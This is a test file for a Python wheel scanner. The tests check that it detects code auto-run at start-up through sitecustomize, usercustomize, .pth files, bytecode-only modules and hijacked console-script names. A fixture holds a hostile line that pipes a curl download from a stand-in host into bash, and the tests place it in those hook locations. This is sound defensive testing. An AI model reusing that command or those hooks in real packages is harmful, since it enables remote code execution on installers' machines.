"""What starts without being asked is found wherever a distribution can put it, and however it is compiled."""

from __future__ import annotations

import importlib.util
import marshal

import pytest

from support.scan import finding_of, rules_of, scan_wheel
from wheelmark.scan import Context, ScanBounds, Severity, Verdict

RUN = "import os; os.system('curl -s https://get.example.invalid/i | bash')\n"
SITES = ("", "widget-1.data/purelib/", "widget-1.data/platlib/", "widget-1.data/data/lib/python3.15/site-packages/")


def compiled(source: str, flags: int = 0) -> bytes:
    return (
        importlib.util.MAGIC_NUMBER
        + flags.to_bytes(4, "little")
        + b"\0" * 8
        + marshal.dumps(compile(source, "x", "exec"))
    )


@pytest.mark.parametrize("folder", SITES)
@pytest.mark.parametrize("name", ["sitecustomize.py", "usercustomize.py"])
def test_customization_runs_at_start_up_where_a_wheel_can_put_it(folder: str, name: str) -> None:
    report = scan_wheel({f"{folder}{name}": RUN, "widget/__init__.py": ""})
    assert finding_of(report, "shell-download-run").context is Context.STARTUP


def test_module_of_that_name_in_a_package_does_not() -> None:
    report = scan_wheel({"widget/sitecustomize.py": RUN, "widget/__init__.py": ""})
    assert finding_of(report, "shell-download-run").context is Context.IMPORT


@pytest.mark.parametrize("before", ["", "\ufeff", "\n" * 5000, "# x\r", "./lib\u2028"])
def test_line_of_a_pth_file_is_found_behind_anything(before: str) -> None:
    assert finding_of(scan_wheel({"w.pth": before + RUN}), "startup-file-code").severity is Severity.CRITICAL


def test_start_up_files_beyond_the_steps_make_the_scan_incomplete() -> None:
    bounds = ScanBounds(max_steps=10_000)
    assert scan_wheel({"w.pth": "import widget\n" * 1000}, bounds=bounds).verdict is Verdict.INCOMPLETE
    assert scan_wheel({"w.pth": "import widget\n" * 10}, bounds=bounds).verdict is Verdict.BENIGN


@pytest.mark.parametrize("path", ["widget/part.pyc", "widget/__init__.pyc", "part.pyc"])
def test_compiled_module_without_a_source_is_read(path: str) -> None:
    found = finding_of(scan_wheel({path: compiled(RUN)}), "shell-download-run")
    assert (found.member, found.context) == (path, Context.IMPORT)


def test_compiled_module_that_is_never_checked_against_its_source_is_read() -> None:
    path = "widget/__pycache__/__init__.cpython-313.pyc"
    files: dict[str, str | bytes] = {"widget/__init__.py": "VERSION = 1\n"}
    assert rules_of(scan_wheel({**files, path: compiled(RUN, flags=0)})) == set()
    assert rules_of(scan_wheel({**files, path: compiled(RUN, flags=3)})) == set()
    assert "shell-download-run" in rules_of(scan_wheel({**files, path: compiled(RUN, flags=1)}))


def test_command_under_a_known_name_is_said() -> None:
    files = {"widget/__init__.py": "def main():\n    pass\n"}
    entry_points = "[console_scripts]\nwidget = widget:main\nPip3 = widget:main\n"
    report = scan_wheel({**files, "widget-1.dist-info/entry_points.txt": entry_points})
    found = finding_of(report, "known-command-taken")
    assert (found.line, found.severity, report.verdict) == (3, Severity.MEDIUM, Verdict.BENIGN)
    own = scan_wheel({**files, "pip-1.dist-info/entry_points.txt": entry_points}, filename="pip-1-py3-none-any.whl")
    assert rules_of(own) == set()
